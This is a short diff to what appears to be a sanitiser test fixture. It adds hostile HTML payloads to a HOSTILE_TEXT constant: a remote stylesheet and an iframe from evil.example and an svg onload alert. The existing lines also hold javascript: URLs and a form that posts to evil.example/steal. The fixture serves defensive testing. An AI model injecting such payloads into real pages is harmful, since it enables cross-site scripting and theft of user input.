@@ -19,6 +19,8 @@ HOSTILE_TITLE = (
     '<a href="javascript:alert(2)">after repairs</a> | Hostile Herald'
 )
 HOSTILE_TEXT = (
+    '<link rel="stylesheet" href="https://evil.example/remote.css">'
+    '<iframe src="https://evil.example/frame"></iframe><svg onload="alert(8)"></svg>'
     '<form action="https://evil.example/steal"><input name=p></form>'
     "<style>@import url(https://evil.example/x.css); "
     "body{background:url(javascript:alert(3))}</style>"
